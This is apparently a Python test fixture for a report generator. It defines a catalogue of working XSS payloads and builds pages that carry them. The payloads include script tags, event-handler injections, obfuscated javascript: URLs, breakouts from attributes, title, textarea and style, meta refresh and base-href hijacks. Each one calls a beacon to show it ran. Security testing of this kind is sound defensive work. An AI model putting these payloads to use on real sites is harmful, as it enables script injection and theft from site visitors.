"""XSS payloads that call a beacon when they run or load, and the minimal pages they are live in.

Each :class:`Payload` has an id, a markup template (``{url}`` is the beacon's
address for that payload, ``{js}`` a statement that requests it, ``{js_url}`` the same
percent-encoded for a ``data:`` URL) and the slot of
a page it sits in as a hostile page would carry it: ``body`` or ``head`` markup,
the ``title``, an attribute value (``attr``), a link URL (``href``), the
``meta`` description, or inside a ``textarea`` / ``style`` it breaks out of.
:func:`control_page` puts one payload in its slot of an otherwise empty page;
:func:`hostile_page` puts many in theirs, and every one of them again as text
(escaped in the page's source, so a page's *text* holds the markup, as an
article quoting an attack does), which is what reaches a report.

``VBSCRIPT`` is apart: Chromium ignores ``vbscript:`` URLs (they do nothing when
clicked, so no control can make them call anything); it is checked as never
being a live link in a report, like every other scheme but the report's own files.
"""

from __future__ import annotations

import html
from dataclasses import dataclass
from urllib.parse import quote


@dataclass(frozen=True)
class Payload:
    id: str
    slot: str  # body | head | title | attr | href | meta | textarea | style
    template: str

    def markup(self, url: str) -> str:
        js = f"void(new Image().src='{url}')"
        return self.template.format(url=url, js=js, js_url=quote(js, safe="'()=/:. "))


PAYLOADS: tuple[Payload, ...] = (
    # scripts
    Payload("script-inline", "body", "<script>{js}</script>"),
    Payload("script-src", "body", '<script src="{url}"></script>'),
    Payload("svg-script", "body", "<svg><script>{js}</script></svg>"),
    Payload("template-literal", "body", "<script>var t = `${{{js}}}`;</script>"),
    Payload("jinja-safe", "body", "{{{{ '<script>{js}</script>' | safe }}}}"),
    # event handlers
    Payload("img-onerror", "body", '<img src=x onerror="{js}">'),
    Payload("svg-onload", "body", '<svg onload="{js}"></svg>'),
    Payload("body-onload", "body", '<body onload="{js}">'),
    Payload("input-autofocus", "body", '<input autofocus onfocus="{js}">'),
    Payload(
        "details-ontoggle",
        "body",
        '<details open ontoggle="{js}"><summary>more</summary>text</details>',
    ),
    Payload(
        "video-source-onerror", "body", '<video><source src="x" onerror="{js}"></video>'
    ),
    Payload(
        "svg-animate-onbegin",
        "body",
        '<svg><animate onbegin="{js}" attributeName="x" dur="1s"/></svg>',
    ),
    Payload("onmouseover-link", "body", '<a onmouseover="{js}">hover me</a>'),
    Payload("math-img", "body", '<math><mi><img src=x onerror="{js}"></mi></math>'),
    Payload("bidi-override", "body", '\u202e<img src=x onerror="{js}">\u202c'),
    Payload(
        "entity-encoded-handler",
        "body",
        "<img src=x onerror=\"&#110;&#101;&#119; Image().src='{url}'\">",
    ),
    # URLs that run script
    Payload("javascript-href", "href", "javascript:{js}"),
    Payload(
        "javascript-href-entities",
        "href",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{js}",
    ),
    Payload("javascript-href-tab", "href", "jav&#x09;ascript:{js}"),
    Payload(
        "svg-xlink-href",
        "body",
        '<svg width="100" height="30"><a xlink:href="javascript:{js}"><text x="5" y="20">svg link</text></a></svg>',
    ),
    Payload(
        "data-iframe",
        "body",
        '<iframe src="data:text/html,<script>{js_url}</script>"></iframe>',
    ),
    Payload(
        "iframe-srcdoc", "body", '<iframe srcdoc="<script>{js}</script>"></iframe>'
    ),
    # remote resources and navigation
    Payload("http-href", "href", "{url}"),
    Payload("img-src", "body", '<img src="{url}" alt="pixel">'),
    Payload("img-srcset", "body", '<img srcset="{url} 1x" alt="pixel">'),
    Payload("iframe-src", "body", '<iframe src="{url}"></iframe>'),
    Payload("object-data", "body", '<object data="{url}" type="text/html"></object>'),
    Payload("embed-src", "body", '<embed src="{url}" type="text/html">'),
    Payload("link-stylesheet", "head", '<link rel="stylesheet" href="{url}">'),
    Payload("style-import", "head", '<style>@import url("{url}");</style>'),
    Payload(
        "css-background",
        "body",
        "<div style=\"background:url('{url}');width:9px;height:9px\">bg</div>",
    ),
    Payload(
        "video-poster", "body", '<video poster="{url}" width="9" height="9"></video>'
    ),
    Payload("audio-src", "body", '<audio src="{url}" preload="auto"></audio>'),
    Payload(
        "meta-refresh", "head", '<meta http-equiv="refresh" content="0;url={url}">'
    ),
    Payload(
        "form-action", "body", '<form action="{url}"><button>Continue</button></form>'
    ),
    Payload("base-href", "head", '<base href="{url}/">'),
    # break-outs from where a page would put the text
    Payload("attr-breakout", "attr", '"><img src=x onerror="{js}">'),
    Payload("title-breakout", "title", "</title><script>{js}</script>"),
    Payload("textarea-breakout", "textarea", "</textarea><script>{js}</script>"),
    Payload("style-breakout", "style", "</style><script>{js}</script>"),
    Payload("meta-breakout", "meta", '"><script>{js}</script>'),
)

BY_ID = {p.id: p for p in PAYLOADS}
assert len(BY_ID) == len(PAYLOADS), "payload ids must be unique"

#: Inert in Chromium (ignored when clicked): never a live link in a report, but no beacon can prove it live.
VBSCRIPT = 'vbscript:msgbox("lastseen")'

#: A relative resource of every page, as real pages have: with an injected ``<base href>`` it calls the beacon.
_OWN_LOGO = '<img src="logo.png" alt="logo" width="1" height="1">'


def slotted(payload: Payload, markup: str) -> tuple[str, str]:
    """(head, body) HTML placing ``markup`` in the payload's slot."""
    slot = payload.slot
    if slot == "head":
        return markup, ""
    if slot == "title":
        return f"<title>{markup}</title>", ""
    if slot == "meta":
        return f'<meta name="description" content="{markup}">', ""
    if slot == "style":
        return f"<style>p {{ color: #222 }} {markup}</style>", ""
    if slot == "attr":
        return "", f'<p title="{markup}">Figures for 2024.</p>'
    if slot == "href":
        return "", f'<p>Read <a href="{markup}">the source</a>.</p>'
    if slot == "textarea":
        return "", f"<form><textarea>{markup}</textarea></form>"
    return "", markup


def control_page(payload: Payload, url: str) -> str:
    """A minimal page carrying ``payload`` in its slot, as a hostile page would: live in any browser."""
    head, body = slotted(payload, payload.markup(url))
    title = "" if payload.slot == "title" else "<title>Control</title>"
    return (
        f'<!doctype html><html><head><meta charset="utf-8">{title}{head}</head>'
        f"<body><p>Before.</p>{_OWN_LOGO}{body}<p>After.</p></body></html>"
    )


def hostile_page(
    payloads: list[Payload], url_of, *, title: str, words: str, live: bool = True
) -> str:
    """A page titled ``title`` (its text: markup in it is the title a reader sees) saying ``words``, a
    ``vbscript:`` link, and every payload as text (a paragraph, an attribute, an anchor's text; the first
    also as the meta description) and, when ``live``, as markup in its slot."""
    heads, bodies = [], []
    for p in payloads:
        text = html.escape(p.markup(url_of(p)), quote=True)
        bodies.append(f'<p title="{text}">{text}</p>')
        bodies.append(f'<p><a href="/notes/{quote(p.id)}">{text}</a></p>')
        if live:
            head, body = slotted(p, p.markup(url_of(p)))
            heads.append(head)
            bodies.append(body)
    description = (
        html.escape(payloads[0].markup(url_of(payloads[0])), quote=True)
        if payloads
        else ""
    )
    return (
        f'<!doctype html><html><head><meta charset="utf-8"><title>{html.escape(title)}</title>'
        f'<meta name="description" content="{description}">{"".join(heads)}</head>'
        f"<body><main><h1>{html.escape(title)}</h1><p>{html.escape(words)}</p>{_OWN_LOGO}"
        f'<p><a href="{html.escape(VBSCRIPT)}">vbscript link</a></p>'
        f"{''.join(bodies)}</main></body></html>"
    )
